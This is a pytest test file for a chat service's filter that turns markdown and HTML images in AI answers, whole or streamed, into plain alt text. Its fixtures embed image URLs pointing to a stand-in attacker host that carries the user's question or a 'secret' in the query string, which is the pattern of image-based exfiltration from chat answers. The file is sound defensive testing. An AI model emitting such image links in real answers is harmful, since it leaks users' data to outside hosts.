"""Images out of answers, whole or in deltas: what becomes alt text, what stays, what is held and for how long."""
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.chat.markdown_images import ImageFilter, strip_images

pytestmark = pytest.mark.unit

URL = "https://attacker.example/p?q=the+question"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"Run it ![the diagram]({URL}) now.", "Run it the diagram now."),
        (f"Pixel ![]({URL}) here.", "Pixel  here."),
        (f'Titled ![a]({URL} "a (title)") end', "Titled a end"),
        ("By reference ![logo][pix] and ![logo][].\n\n[pix]: " + URL, "By reference logo and logo.\n\n[pix]: " + URL),
        (f'<img src="{URL}" alt="a &amp; b"> and <IMG SRC={URL}/> and <img\nsrc="{URL}">.', "a & b and  and ."),
        (f"Badge [![build]({URL})](https://ci.example/) links.", "Badge [build](https://ci.example/) links."),
        (f"Nested ![outer ![inner]({URL}) text]({URL}).", "Nested outer inner text."),
        # A backtick inside an HTML tag or comment opens no code span: the image between them is one.
        (f'<a href="`">![x]({URL})<a href="`">', '<a href="`">x<a href="`">'),
        (f"<!-- ` -->![x]({URL})<!-- ` -->", "<!-- ` -->x<!-- ` -->"),
        (f"<![x]({URL})", "< x"),
    ],
)
def test_images_become_their_alt_text(text, expected):
    assert strip_images(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "A [link](https://example.com/a) and a citation [1], [2, 3] and 【4】.",
        "Hello! [1] Wow! a < b, a<b>, <image>, <i>italic</i>, x!y and \\![escaped](https://example.com).",
        f"In code: `![x]({URL})`, ``<img src=x> ` `` and\n```md\n![x]({URL})\n<img src={URL}>\n```\nafter.",
        f"~~~\n![x]({URL})\n~~~",
    ],
)
def test_links_citations_prose_and_code_are_unchanged(text):
    assert strip_images(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Redis is fast![1]", "Redis is fast! [1]"),  # a shortcut image needs only a "[1]: url" line to load
        ("![alt] (not a destination)", "! [alt] (not a destination)"),
        ("cut off ![alt](https://exa", "cut off ! [alt](https://exa"),
        (f"`unclosed ![x]({URL})", "`unclosed x"),  # a lone backtick opens no code span
        (f"    ```\n![x]({URL})\n```", "    ```\nx\n```"),  # an indented fence may end sooner: read as prose
        ("<img src=x", "< img src=x"),
    ],
)
def test_what_is_not_an_image_cannot_become_one(text, expected):
    assert strip_images(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("!![](U)[a](U)", "! [a](U)"),  # the "!" and the link must not meet
        ("![wow!](U)[a](U)", "wow! [a](U)"),
        ("<![](U)img src=U>", "< img src=U>"),  # nor "<" and "img"
        ("<im![](U)g src=U>", "< img src=U>"),
        ("<img<img > src=U>", "< img src=U>"),
        ("``![](U)`![a](U)`", "`` `![a](U)`"),  # nor two backtick runs, which would open another code span
    ],
)
def test_a_removed_image_leaves_no_new_image_behind(text, expected):
    assert strip_images(text) == expected
    assert strip_images(expected) == expected


def test_images_nested_deeper_than_any_answer_needs_lose_their_alt_text_not_the_stream():
    nested = "Before " + "![" * 330 + "x" + "](u)" * 330 + " after"
    assert strip_images(nested) == "Before  after"


def test_an_unterminated_image_is_released_once_max_held_characters_are_held():
    images = ImageFilter(max_held=2000)
    out = images.feed("Start ![" + "a" * 1000)
    assert out == "Start "
    out += images.feed("a" * 1001)
    assert out.startswith("Start ! [a") and len(out) == len("Start ! [") + 2001
    out += images.feed("](https://attacker.example/p)") + images.finish()
    assert out == "Start ! [" + "a" * 2001 + "](https://attacker.example/p)"  # a link now, not an image


def test_a_bang_that_starts_no_image_is_released_with_the_next_character():
    images = ImageFilter()
    assert images.feed("Hello!") == "Hello"
    assert images.feed(" [1]") == "! [1]"
    assert images.feed(" Wow!") == " Wow"
    assert images.finish() == "!"


def test_an_image_split_over_many_deltas_comes_out_as_its_alt_text_once_complete():
    images = ImageFilter()
    pieces = ["See ", "!", "[al", "t](htt", "ps://attacker.example/p?q=", "secret", ")", " done"]
    outputs = [images.feed(piece) for piece in pieces] + [images.finish()]
    assert outputs == ["See ", "", "", "", "", "", "alt", " done", ""]


ALPHABET = st.sampled_from(list("ab !<>[]()`~\\\n\"'=:") + ["img", "![", "](", "<img ", "```", " alt=", URL])


@settings(max_examples=400, deadline=None)
@given(pieces=st.lists(st.lists(ALPHABET, max_size=12).map("".join), max_size=12), max_held=st.integers(16, 60))
def test_any_split_into_deltas_gives_the_filtered_whole(pieces, max_held):
    images = ImageFilter(max_held=max_held)
    streamed = "".join(images.feed(piece) for piece in pieces) + images.finish()
    assert streamed == strip_images("".join(pieces), max_held=max_held)


@settings(max_examples=200, deadline=None)
@given(text=st.lists(ALPHABET, max_size=40).map("".join), cuts=st.lists(st.integers(0, 200), max_size=8))
def test_random_cuts_of_one_text_give_the_filtered_whole(text, cuts):
    images = ImageFilter()
    bounds = [0, *sorted(c for c in cuts if c <= len(text)), len(text)]
    streamed = "".join(images.feed(text[a:b]) for a, b in zip(bounds, bounds[1:])) + images.finish()
    assert streamed == strip_images(text)


@settings(max_examples=300, deadline=None)
@given(text=st.lists(ALPHABET, max_size=30).map("".join))
def test_no_image_survives_outside_code(text):
    """Filtering the output again changes nothing: every image was removed the first time."""
    once = strip_images(text)
    assert strip_images(once) == once


def test_a_tag_with_an_unquoted_angle_bracket_is_text_and_the_tag_after_it_is_removed():
    # No renderer reads "<img src=a <img src=b>" as one tag: the first "<img" is text, the second a tag.
    assert strip_images(f"see <img src={URL} <img src={URL}> now") == f"see < img src={URL}  now"
    assert strip_images(f'see <a href="x" <img src={URL}> now') == 'see <a href="x"  now'
    assert strip_images(f"""<img alt='<b>' src="{URL}"> quoted""") == "<b> quoted"


def _calls(text: str, *, max_held: int, piece: int) -> int:
    """The Python and C calls it takes to filter `text` fed in pieces of `piece` characters: a count of
    work that does not depend on the machine's speed."""
    count = 0

    def profile(frame, event, arg):
        nonlocal count
        count += event in ("call", "c_call")

    image_filter = ImageFilter(max_held=max_held)
    sys.setprofile(profile)
    try:
        for start in range(0, len(text), piece):
            image_filter.feed(text[start : start + piece])
        image_filter.finish()
    finally:
        sys.setprofile(None)
    return count


HOSTILE = ["![", "![a](", "![![", "<img ", "<img '", "<a ", "``<img ", "<?", "<!--", "`"]


@pytest.mark.parametrize("piece", [10_000, 1], ids=["whole", "a character at a time"])
@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_answers_cost_work_in_proportion_to_their_length(unit, piece):
    """An answer of "![![![..." once cost a scan of up to MAX_HELD characters per "!" (two seconds of chat's
    event loop for 16 KB): the work must not grow with how much may be held, nor faster than the text."""
    text = unit * (2000 // len(unit))
    assert _calls(text, max_held=2000, piece=piece) <= 1.5 * _calls(text, max_held=250, piece=piece)
    assert _calls(text * 4, max_held=2000, piece=piece) <= 5 * _calls(text, max_held=2000, piece=piece)
